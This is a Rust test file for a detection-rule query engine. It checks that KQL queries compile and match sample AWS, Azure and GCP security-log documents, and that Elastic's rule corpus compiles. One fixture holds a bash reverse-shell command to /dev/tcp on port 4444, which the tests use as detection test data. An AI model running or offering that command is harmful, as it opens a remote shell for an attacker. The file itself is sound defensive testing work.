//! Semantics of compiled KQL against our own ECS documents, and the corpus compile check.

use super::*;
use serde_json::json;
use tripline_doc::Document;

fn doc(v: serde_json::Value) -> Document {
    Document(v.as_object().expect("object").clone())
}

fn q(query: &str) -> Predicate {
    compile(query, FieldTypes::builtin()).unwrap_or_else(|e| panic!("{query}: {e}"))
}

fn hit(query: &str, d: &Document) -> bool {
    q(query).matches(d)
}

/// A CloudTrail CreateUser event as Elastic's integration shapes it.
fn create_user() -> Document {
    doc(json!({
        "@timestamp": "2024-05-06T07:08:09.123Z",
        "event": {"dataset": "aws.cloudtrail", "provider": "iam.amazonaws.com", "action": "CreateUser",
                  "outcome": "success", "category": ["iam", "configuration"], "type": ["user", "creation"]},
        "source": {"ip": "10.20.30.40", "address": "10.20.30.40"},
        "user_agent": {"original": "aws-cli/2.13.5 Python/3.11.4 Linux/6.1 exe/x86_64.ubuntu.22 prompt/off command/iam.create-user"},
        "user": {"name": "alice", "id": "AIDAEXAMPLE"},
        "cloud": {"region": "us-east-1", "account": {"id": "123456789012"}},
        "aws": {"cloudtrail": {
            "user_identity": {"type": "IAMUser", "arn": "arn:aws:iam::123456789012:user/alice"},
            "request_parameters": "{userName=bob, path=/}",
            "flattened": {"request_parameters": {"userName": "bob", "path": "/"}}
        }},
        "related": {"entity": ["arn:aws:iam::aws:policy/AdministratorAccess", "bob"]}
    }))
}

#[test]
fn realistic_aws_rule_queries() {
    let d = create_user();
    assert!(hit(
        "event.dataset:aws.cloudtrail and event.provider:iam.amazonaws.com and event.action:(CreateUser or AttachUserPolicy) and event.outcome:success",
        &d
    ));
    assert!(!hit(
        "event.dataset:aws.cloudtrail and event.action:(DeleteUser or AttachUserPolicy)",
        &d
    ));
    assert!(hit("not user_agent.original:*console*", &d));
    assert!(!hit("not user_agent.original:*aws-cli*", &d));
    assert!(hit("source.ip:10.0.0.0/8", &d));
    assert!(!hit("source.ip:192.168.0.0/16", &d));
    assert!(hit("source.ip:10.20.30.40", &d));
    assert!(
        hit("user_agent.original.text:\"python/3.11.4 LINUX\"", &d),
        "phrase on the text multi-field"
    );
    // The standard tokenizer keeps `iam.create` whole (letters joined by a dot).
    assert!(!hit("user_agent.original.text:\"create-user\"", &d));
    assert!(hit("user_agent.original.text:\"iam.create-user\"", &d));
    assert!(
        hit("user_agent.original.text:PYTHON", &d),
        "text is case-insensitive"
    );
    assert!(!hit("user_agent.original:PYTHON", &d), "keyword is exact");
    assert!(hit(
        "aws.cloudtrail.flattened.request_parameters.userName:bob",
        &d
    ));
    assert!(hit(
        "aws.cloudtrail.user_identity.type:IAMUser and not aws.cloudtrail.user_identity.type:Root",
        &d
    ));
    assert!(
        hit("event.category:iam and event.type:creation", &d),
        "multi-valued"
    );
    assert!(hit("related.entity:arn\\:aws\\:iam\\:\\:aws\\:policy*", &d));
    assert!(hit("cloud.account.id:123456789012", &d));
    assert!(hit("aws.cloudtrail.request_parameters:*userName=bob*", &d));
}

#[test]
fn keyword_semantics_case_and_wildcards() {
    let d = create_user();
    assert!(
        !hit("event.action:createuser", &d),
        "keyword term is case-sensitive"
    );
    assert!(
        !hit("event.action:create*", &d),
        "keyword wildcard is case-sensitive"
    );
    assert!(hit("event.action:Create*", &d));
    assert!(hit("event.action:*User", &d));
    assert!(
        !hit("event.action:Create?ser", &d),
        "? is not a KQL wildcard"
    );
    assert!(hit("user.name:*", &d));
    assert!(!hit("user.email:*", &d));
    assert!(hit("not user.email:*", &d));
    assert!(
        !hit("user.email:alice", &d),
        "missing field never matches a positive clause"
    );
    assert!(hit("not user.email:alice", &d));
}

#[test]
fn exists_and_keywords_are_case_insensitive() {
    let d = create_user();
    assert!(hit(
        "user.name:alice AND NOT user.name:bob Or user.name:carol",
        &d
    ));
    assert!(hit("(user.name:alice)", &d));
    assert!(hit("", &d), "empty query matches all");
}

#[test]
fn bare_values_query_every_field() {
    let d = create_user();
    assert!(hit("alice", &d));
    assert!(hit("CreateUser", &d));
    assert!(!hit("createuser", &d), "keyword leaves compare exactly");
    assert!(hit("Create*", &d));
    assert!(!hit("nobody-here", &d));
    let msg = doc(json!({"message": "User Alice logged in"}));
    assert!(hit("alice", &msg), "text fields are analyzed");
    assert!(hit("\"alice logged\"", &msg));
    assert!(!hit("\"logged alice\"", &msg));
}

#[test]
fn wildcard_field_names_expand_to_known_and_document_fields() {
    let d = doc(json!({
        "azure": {"auditlogs": {"properties": {"target_resources": {
            "0": {"display_name": "Global Administrator", "modified_properties": {"3": {"new_value": "\"Global Administrator\""}}}
        }}}},
        "custom": {"deep": {"thing": "x"}}
    }));
    assert!(hit("azure.auditlogs.properties.target_resources.*.modified_properties.*.new_value: \"\\\"Global Administrator\\\"\"", &d));
    assert!(hit(
        "azure.auditlogs.properties.target_resources.*.display_name:\"Global Administrator\"",
        &d
    ));
    assert!(!hit(
        "azure.auditlogs.properties.target_resources.*.display_name:Guest",
        &d
    ));
    assert!(hit("custom.*:x", &d), "dynamic (unknown) paths");
    assert!(hit("*.thing:x", &d));
    assert!(hit("custom.*:*", &d));
    assert!(!hit("nothing.*:*", &d));
}

#[test]
fn text_fields_and_query_string_splitting() {
    let d = doc(
        json!({"message": "Started Netcat listener on port 4444", "process": {"command_line": "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"}}),
    );
    assert!(hit("message:netcat", &d));
    assert!(hit("message:nothing or message:port", &d));
    assert!(hit("message:foo netcat", &d), "match is OR of tokens");
    assert!(hit("message:\"netcat listener\"", &d));
    assert!(!hit("message:\"listener netcat\"", &d));
    assert!(
        hit("message:NET*", &d),
        "query_string wildcards on text test lowercased tokens"
    );
    assert!(!hit("message:*netcat listener*", &d) || hit("message:*netcat", &d));
    // process.command_line is a `wildcard` field: query_string, case-sensitive whole value.
    assert!(hit("process.command_line:*/dev/tcp/*", &d));
    assert!(!hit("process.command_line:*/DEV/tcp/*", &d));
    // Split at the space: `*bash` OR `-i*`... neither matches the whole value alone here, but `bash*` does.
    assert!(hit("process.command_line:bash* nomatch*", &d));
}

#[test]
fn numbers_dates_booleans_ranges() {
    let d = doc(json!({
        "@timestamp": "2024-05-06T07:08:09.123Z",
        "source": {"port": 4444, "bytes": "100"},
        "aws": {"cloudtrail": {"read_only": false}},
        "o365": {"audit": {"OperationCount": 150}}
    }));
    assert!(hit("source.port:4444", &d));
    assert!(hit("source.port >= 4444 and source.port < 5000", &d));
    assert!(!hit("source.port > 4444", &d));
    assert!(
        hit("source.bytes <= 100", &d),
        "long field: numeric even from a string"
    );
    assert!(
        hit("@timestamp:2024-05-06", &d),
        "a date value covers its precision"
    );
    assert!(!hit("@timestamp:2024-05-07", &d));
    assert!(hit(
        "@timestamp >= \"2024-05-06T07:00:00Z\" and @timestamp < 2024-05-07",
        &d
    ));
    assert!(hit("@timestamp <= 2024-05-06", &d), "lte rounds up");
    assert!(hit("aws.cloudtrail.read_only:false", &d));
    assert!(!hit("aws.cloudtrail.read_only:true", &d));
    assert!(hit(
        "source.ip >= 10.0.0.0",
        &doc(json!({"source": {"ip": "10.1.1.1"}}))
    ));
    // An unmapped field is a dynamic keyword: ranges compare bytes.
    assert!(
        hit("o365.audit.OperationCount >= 100", &d) || !hit("o365.audit.OperationCount >= 2", &d)
    );
}

#[test]
fn nested_and_not_lists() {
    let d = doc(
        json!({"gcp": {"audit": {"service_data": {"policy_delta": {"binding_deltas": [
            {"action": "ADD", "role": "roles/iam.serviceAccountUser"}
        ]}}}}}),
    );
    assert!(hit("gcp.audit.service_data.policy_delta.binding_deltas:{ action:\"ADD\" and role:(\"roles/owner\" or \"roles/iam.serviceAccountUser\") }", &d));
    assert!(!hit(
        "gcp.audit.service_data.policy_delta.binding_deltas:{ action:REMOVE }",
        &d
    ));
    let e = doc(json!({"user": {"email": "system:serviceaccount:kube-system:x"}}));
    assert!(hit(
        "user.email:(system\\:serviceaccount\\:* and not system\\:serviceaccount\\:default\\:*)",
        &e
    ));
    assert!(!hit("user.email:(system\\:serviceaccount\\:* and not system\\:serviceaccount\\:kube-system\\:*)", &e));
}

#[test]
fn compiled_shape_for_indexing() {
    let p = q("event.provider:iam.amazonaws.com and event.action:(CreateUser or AttachUserPolicy or \"CreateUser\")");
    assert_eq!(
        p.required_values("event.provider"),
        Some(vec!["iam.amazonaws.com".to_string()])
    );
    assert_eq!(
        p.required_values("event.action"),
        Some(vec![
            "AttachUserPolicy".to_string(),
            "CreateUser".to_string()
        ])
    );
    let w = q("event.action:Create* or event.action:Delete");
    assert_eq!(w.required_values("event.action"), None);
    let n = q("not event.action:CreateUser");
    assert_eq!(n.required_values("event.action"), None);
    assert!(
        matches!(q("event.action:(a or b or c)"), Predicate::Terms { ref values, .. } if values.len() == 3)
    );
}

#[test]
fn syntax_errors_have_offsets() {
    for (query, at) in [
        ("event.action:", 13usize),
        ("event.action:(a or b", 20),
        ("a:1 and (b:2", 12),
        ("a:b\\.c", 3),
    ] {
        let e = compile(query, FieldTypes::builtin()).expect_err(query);
        assert_eq!(e.offset, at, "{query}: {e}");
    }
}

/// Every KQL rule of the detection-rules corpus compiles (skipped when the corpus is absent).
#[test]
fn corpus_rules_compile() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/corpus/detection-rules/rules/integrations");
    if !root.is_dir() {
        eprintln!("corpus not found at {}; skipping", root.display());
        return;
    }
    let files = tripline_rules::collect_rule_files(&root).expect("rule files");
    let mut per_dir: std::collections::BTreeMap<String, (usize, usize)> = Default::default();
    let mut failures = Vec::new();
    let mut unknown = std::collections::BTreeSet::new();
    for f in files {
        let Ok(rule) = tripline_rules::Rule::load(&f) else {
            continue;
        };
        let kql = rule.language.as_deref().is_none_or(|l| l == "kuery");
        if !kql
            || !matches!(
                rule.rule_type,
                tripline_rules::RuleType::Query
                    | tripline_rules::RuleType::NewTerms
                    | tripline_rules::RuleType::Threshold
            )
        {
            continue;
        }
        let Some(query) = rule.query.as_deref() else {
            continue;
        };
        let dir = f
            .strip_prefix(&root)
            .ok()
            .and_then(|p| p.iter().next())
            .map(|s| s.to_string_lossy().into_owned())
            .unwrap_or_default();
        let e = per_dir.entry(dir.clone()).or_default();
        match compile(query, FieldTypes::builtin()) {
            Ok(p) => {
                e.0 += 1;
                // A bare value in a rule would mean a mis-read field:value.
                if p.fields().iter().any(|f| &**f == ALL_FIELDS) {
                    failures.push(format!("{}: compiled to an all-fields query", f.display()));
                }
                for name in p.fields() {
                    if FieldTypes::builtin().get(&name).is_none()
                        && !tripline_ir::eval::is_field_pattern(&name)
                    {
                        unknown.insert(format!("{dir}: {name}"));
                    }
                }
            }
            Err(err) => {
                e.1 += 1;
                failures.push(format!("{}: {err}", f.display()));
            }
        }
    }
    for (dir, (ok, bad)) in &per_dir {
        eprintln!("{dir}: {ok} compiled, {bad} failed");
    }
    eprintln!(
        "fields not in the type table (queried as dynamic keywords): {}",
        unknown.len()
    );
    for u in &unknown {
        eprintln!("  {u}");
    }
    for f in &failures {
        eprintln!("FAIL {f}");
    }
    let aws = per_dir.get("aws").copied().unwrap_or_default();
    assert!(aws.0 > 0, "no AWS KQL rules found");
    assert_eq!(aws.1, 0, "every AWS KQL rule must compile");
    assert!(
        failures.is_empty(),
        "{} KQL rules failed to compile",
        failures.len()
    );
}

/// Elastic's "IAM group creation" rule against the CloudTrail integration's own expected ECS
/// documents: it must fire on the CreateGroup document and on no other (skipped without corpus).
#[test]
fn corpus_rule_fires_on_integration_documents() {
    let corpus = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus");
    let rule_path =
        corpus.join("detection-rules/rules/integrations/aws/persistence_iam_group_creation.toml");
    let docs_dir = corpus.join("elastic-cloudtrail-pipeline");
    if !rule_path.is_file() || !docs_dir.is_dir() {
        eprintln!("corpus not found; skipping");
        return;
    }
    let rule = tripline_rules::Rule::load(&rule_path).expect("rule loads");
    let p =
        compile(rule.query.as_deref().expect("query"), FieldTypes::builtin()).expect("compiles");
    let mut fired = Vec::new();
    let mut total = 0;
    for e in std::fs::read_dir(&docs_dir).expect("dir") {
        let path = e.expect("entry").path();
        let name = path
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default();
        if !name.ends_with("-expected.json") {
            continue;
        }
        let v: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&path).expect("read")).expect("json");
        for d in v["expected"].as_array().into_iter().flatten() {
            let mut d = doc(d.clone());
            // The data stream supplies these constant_keyword fields, not the pipeline.
            d.set("event.dataset", json!("aws.cloudtrail"));
            d.set("data_stream.dataset", json!("aws.cloudtrail"));
            total += 1;
            if p.matches(&d) {
                fired.push(name.clone());
            }
        }
    }
    assert!(total > 10, "expected documents found: {total}");
    assert_eq!(
        fired,
        vec!["test-create-group-json.log-expected.json".to_string()]
    );
}
